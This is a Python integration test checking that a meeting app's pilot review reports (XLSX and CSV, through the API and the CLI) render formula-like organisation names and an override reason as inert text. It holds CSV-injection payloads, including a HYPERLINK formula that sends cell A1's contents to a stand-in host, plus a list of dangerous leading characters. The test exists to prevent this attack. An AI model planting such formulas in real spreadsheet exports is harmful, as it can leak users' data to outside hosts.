"""Issue 17 part 3: user text in the pilot review report stays text (OWASP "CSV injection").

Every organisation name that reaches the report (the province at the top, the committees, the cells)
starts with a character a spreadsheet evaluates (`=`, `+`, `-`, `@`), and so does the quorum override
reason quoted in the flags: the XLSX holds no formula cell and reads every name back exactly; no CSV
cell starts with such a character, a name reads as `'` + the name. Both through the download route and
`cellmeet report pilot`. (The API strips names, so a leading tab or carriage return is the unit test's.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from tests.integration.helpers import cellmeet, pass_time, schedule
from tests.integration.world import World

PERIOD = "from=2026-01-01&to=2026-12-31"
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
NAMES = {"P": HYPERLINK, "C": "+1+1", "G": "-2+3", "A": "@SUM(A1)", "B": "=1+2"}
REASON = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"lý do")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


async def hostile_world(world: World) -> None:
    """The operator names the whole subtree with formulas; cell B opens below quorum, for a reason that is
    one too, and meets for ten minutes (flags naming B)."""
    operator = await world.as_user("operator")
    for key, name in NAMES.items():
        renamed = await operator.request("PATCH", f"/api/v1/orgs/{world.orgs[key]}", json={"name": name})
        assert renamed.status == 200 and renamed.body["name"] == name, renamed.body
    meeting = await schedule(world, "sec_b", "B")
    assert meeting.status == 201, meeting.body
    sec_b, path = await world.as_user("sec_b"), f"/api/v1/meetings/{meeting.body['id']}"
    assert (await sec_b.post(f"{path}/checkins", {"member_id": world.members["B"][0]})).status == 201
    assert (await sec_b.post(f"{path}/open", {"override_reason": REASON})).status == 200
    await pass_time(world, 10)
    assert (await sec_b.post(f"{path}/close", {})).status == 200


def check_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    overview = book["Tổng hợp"]["A2"].value
    assert isinstance(overview, str) and overview.startswith(f"{HYPERLINK} — ")
    units = [row[0] for row in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)]
    assert units and set(units) <= set(NAMES.values()), units
    assert NAMES["A"] in units and NAMES["B"] in units
    flags = list(book["Cảnh báo"].iter_rows(min_row=2, values_only=True))
    assert flags and {row[0] for row in flags} == {NAMES["B"]}, flags
    assert any(REASON in str(row[-1]) for row in flags), flags


def check_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell
    units = [row[0] for row in rows[1:-1]]
    assert units and set(units) <= {"'" + name for name in NAMES.values()}, units
    assert "'" + NAMES["A"] in units and "'" + NAMES["B"] in units
    assert rows[-1][0] == f"Tổng cộng: {HYPERLINK}"


async def test_the_downloaded_report_holds_no_formula(world: World) -> None:
    await hostile_world(world)
    auditor = await world.as_user("auditor_p")
    query = f"/api/v1/audit/usage/report?org={world.orgs['P']}&{PERIOD}&format="
    usage = (await auditor.get(f"/api/v1/audit/usage?org={world.orgs['P']}&{PERIOD}")).body
    assert usage["org"]["name"] == HYPERLINK and usage["flags"]

    xlsx = await auditor.request("GET", query + "xlsx")
    assert xlsx.status == 200
    check_xlsx(xlsx.body)
    units = openpyxl.load_workbook(io.BytesIO(xlsx.body))["Theo đơn vị"]
    assert [row[0] for row in units.iter_rows(min_row=2, values_only=True)] == [
        u["name"] for u in usage["units"]
    ]

    report = await auditor.request("GET", query + "csv")
    assert report.status == 200
    check_csv(report.body)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_the_cli_report_holds_no_formula(
    world: World, database_url: str, tmp_path: Path, fmt: str
) -> None:
    await hostile_world(world)
    out = tmp_path / f"bao-cao.{fmt}"
    args = ["report", "pilot", "--org", str(world.orgs["P"]), "--from", "2026-01-01", "--to", "2026-12-31"]
    run = await cellmeet(tmp_path, database_url, *args, "--format", fmt, "--out", str(out))
    assert run.code == 0, run.stderr
    (check_csv if fmt == "csv" else check_xlsx)(out.read_bytes())
